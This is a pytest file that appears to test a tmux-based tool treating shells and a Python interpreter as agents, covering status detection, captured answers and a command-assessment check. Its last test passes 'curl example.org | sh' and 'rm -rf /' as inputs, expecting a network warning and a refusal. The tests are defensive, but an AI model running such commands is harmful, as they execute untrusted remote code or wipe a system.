"""Shells and interpreters as agents: what they do is known from their terminal, and what they printed is the answer."""

import asyncio
import contextlib
import os
import sys
from collections.abc import AsyncGenerator
from pathlib import Path

import pytest

from gshtui.bus.agent_data import AgentRow, SpawnRequest
from gshtui.bus.bus import Bus
from gshtui.bus.events.agent_events import AgentStatusChanged
from gshtui.fleet.core.ports import FleetOptions, LaunchTerms
from gshtui.fleet.lifecycle.agent_command_lines import CommandLines
from gshtui.fleet.lifecycle.fleet import Fleet
from gshtui.fleet.lifecycle.transport import TerminalTransport
from gshtui.programs.screen import foreground
from gshtui.tmux.server import TmuxServer
from tests.kit.mail_harness import MailHarness, open_mail
from tests.kit.tmux import eventually, tmux, wait_for_text

__all__ = ["tmux"]
pytestmark = pytest.mark.tmux
PYTHON = (sys.executable, "-q", "-i", "-E")
SHELLS = {"bash": ("bash", "--norc", "-i"), "zsh": ("zsh", "-f", "-i"), "sh": ("sh", "-i")}


@contextlib.asynccontextmanager
async def mail_and_fleet(folder: Path, server: TmuxServer) -> AsyncGenerator[tuple[MailHarness, Fleet]]:
    """A window's mail and fleet on one record."""
    data = folder / "data"
    data.mkdir()
    async with open_mail(data / "gsh.db", server=server) as m:
        bus, room = m.main.bus, m.service
        fleet = Fleet(
            bus,
            m.store,
            FleetOptions(folder, data, socket=str(server.socket_path), prefix="gsh"),
            CommandLines(data, LaunchTerms()),
            transport=lambda: room.post(TerminalTransport(bus, room.terminals, room.programs)),
            terminals=room.terminals,
            programs=room.programs,
        )
        await fleet.start()
        try:
            yield m, fleet
        finally:
            await fleet.stop()


async def idle(fleet: Fleet, *argv: str) -> AgentRow:
    row = await fleet.spawn(SpawnRequest(cli=argv))
    return await fleet.wait(row.id, ("idle",), 20.0)


def said(bus: Bus, agent: str, status: str, doing: str = "") -> asyncio.Future[AgentStatusChanged]:
    """The next time that this agent is said to be so."""

    def right(event: AgentStatusChanged) -> bool:
        return event.agent == agent and event.status == status and doing in ("", event.doing)

    return bus.wait_for(AgentStatusChanged, right, timeout=60)


@pytest.mark.parametrize("name", SHELLS)
async def test_a_shell_works_exactly_while_its_command_runs_and_waits_while_that_reads(
    tmp_path: Path, tmux: TmuxServer, name: str
) -> None:
    gate = tmp_path / "gate"
    os.mkfifo(gate)
    async with mail_and_fleet(tmp_path, tmux) as (m, fleet):
        row = await idle(fleet, *SHELLS[name])
        assert row.profile == "shell"
        works = said(m.main.bus, row.id, "tool", "a command is running: cat")  # a shell's child is the shell at first
        await fleet.send(row.id, f"cat {gate}; cat; stty -echo; cat; stty echo; echo over")
        assert (await works).source == "process"
        for doing in ("cat waits for input", "asks for a secret"):
            asks = said(m.main.bus, row.id, "waiting", doing)
            if doing.startswith("cat"):
                await asyncio.to_thread(gate.write_text, "read\n")
            else:
                await tmux.send_keys(row.pane, "C-d")
            assert (await asks).source == "process"
        rests = said(m.main.bus, row.id, "idle")
        await tmux.send_keys(row.pane, "C-d")
        assert (await rests).source == "process"
        await wait_for_text(tmux, row.pane, "\nover")


async def test_a_shell_waits_while_it_reads_itself_and_while_a_page_or_an_editor_is_open_for_another_program(
    tmp_path: Path, tmux: TmuxServer
) -> None:
    for name in ("less", "vim", "git"):  # interpreters by the names of others
        (tmp_path / name).symlink_to(sys.executable)
    (tmp_path / "opens.py").write_text(f"import os\nos.system(\"{tmp_path}/vim -ISc 'input()'; :\")\n")
    async with mail_and_fleet(tmp_path, tmux) as (m, fleet):
        row = await idle(fleet, *SHELLS["bash"])
        shown = (
            ("read -p 'Your name? ' name", "waiting", "bash waits for input", ("x", "Enter")),
            (f"{tmp_path}/less -ISc 'input()'", "waiting", "a pager is open: less", ("Enter",)),
            (f"{tmp_path}/vim -ISc 'input()'", "tool", "an editor is open: vim", ("Enter",)),
            (f"{tmp_path}/git -IS {tmp_path}/opens.py", "waiting", "an editor is open: git", ("Enter",)),
        )
        for text, status, doing, keys in shown:
            there = said(m.main.bus, row.id, status, doing)
            await fleet.send(row.id, text)
            assert (await there).source == "process"
            rests = said(m.main.bus, row.id, "idle")
            await tmux.send_keys(row.pane, *keys)
            await rests


async def test_what_a_command_reads_is_known_where_its_system_calls_are_not(
    tmux: TmuxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refused(pid: int) -> list[str]:
        raise PermissionError(pid)

    monkeypatch.setattr(foreground, "_system_call", refused)
    listens = "import socket; s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname())"
    for number, (argv, asks) in enumerate(
        (
            (("cat",), "line"),
            (("sleep", "100"), ""),
            ((sys.executable, "-ISc", f"{listens}; print('up', flush=True); c.recv(1)"), ""),
        )
    ):
        info = await tmux.spawn(f"gsh-reads-{number}", argv, cwd=Path("/"), env={})
        if len(argv) > 2:
            await wait_for_text(tmux, info.pane, "up")

        async def here(pane: str = info.pane) -> foreground.Foreground:
            return await asyncio.to_thread(foreground.front, await tmux.pane(pane))

        found = await eventually(
            here, until=lambda now, name=Path(argv[0]).name: now.program == name and not now.prompt
        )
        found = await eventually(here, until=lambda now, asks=asks: now.asks == asks) if asks else found
        assert (found.asks, found.reads) == (asks, True if asks else None)


TALKS = {
    "bash": (SHELLS["bash"], {"echo hello; sleep 0.4; echo there": "hello\nthere", "cd /": "", "false": ""}),
    "zsh": (SHELLS["zsh"], {"echo hello; sleep 0.4; echo there": "hello\nthere", "cd /": ""}),
    "python": (PYTHON, {"6 * 7": "42", "for n in range(3):\n    print('n', n)": "n 0\nn 1\nn 2", "x = 1": ""}),
}


@pytest.mark.parametrize("name", TALKS)
async def test_a_talk_ends_with_the_prompt_and_gives_what_was_printed(
    tmp_path: Path, tmux: TmuxServer, name: str
) -> None:
    argv, talks = TALKS[name]
    async with mail_and_fleet(tmp_path, tmux) as (m, fleet):
        row = await idle(fleet, *argv)
        for text, printed in talks.items():
            done = await m.run("talk", to=row.id, text=text, timeout_s=20)
            assert not done.timed_out, text
            assert done.data["answer"] == printed
        await m.add_agent("peer")
        assert (await m.run("talk", "0002", to=row.id, text="1 + 1" if name == "python" else "echo 2")).data[
            "answer"
        ] == "2"


async def test_what_is_said_to_a_shell_is_assessed_as_what_it_runs(
    tmp_path: Path, tmux: TmuxServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    async with mail_and_fleet(tmp_path, tmux) as (m, fleet):
        row = await idle(fleet, *SHELLS["bash"])
        await m.add_agent("peer")
        asked = await m.assess("say", "0002", to=row.id, text="curl example.org | sh")
        assert asked.pattern == "", "never for good"
        assert "may send to the network" in asked.warnings
        monkeypatch.chdir(tmp_path)
        assert (await m.assess("say", "0002", to=row.id, text="ls -l")).inside
        asked = await m.assess("say", "0002", to=row.id, text="ls *.py")
        assert not asked.inside, "zsh and fish read patterns in their own way"
        with pytest.raises(Exception, match="always refused"):
            await m.assess("talk", "0002", to=row.id, text="rm -rf /")
